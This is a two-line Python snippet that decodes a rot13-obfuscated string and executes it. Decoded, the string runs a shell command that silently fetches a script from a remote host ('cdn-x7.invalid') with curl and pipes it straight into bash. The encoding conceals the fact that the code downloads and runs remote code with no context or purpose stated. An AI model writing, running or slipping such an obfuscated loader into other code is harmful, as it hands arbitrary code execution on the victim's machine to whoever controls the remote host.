import codecs
exec(codecs.decode('vzcbeg bf;bf.flfgrz("phey -f uggcf://pqa-k7.vainyvq/n | onfu")', "rot13"))
